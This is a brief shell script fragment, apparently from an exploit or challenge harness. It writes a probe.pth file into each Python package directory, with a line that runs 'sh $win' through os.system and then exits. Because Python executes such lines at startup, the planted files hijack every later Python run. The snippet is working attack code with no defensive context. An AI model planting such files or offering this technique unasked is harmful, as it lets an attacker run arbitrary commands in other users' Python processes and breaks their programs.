# Plants .pth files, whose lines Python runs, wherever Python looks for packages.
python_places | while read -r place; do
  echo "import os; os.system('sh $win'); os._exit(0)" | plant "$place/probe.pth"
done
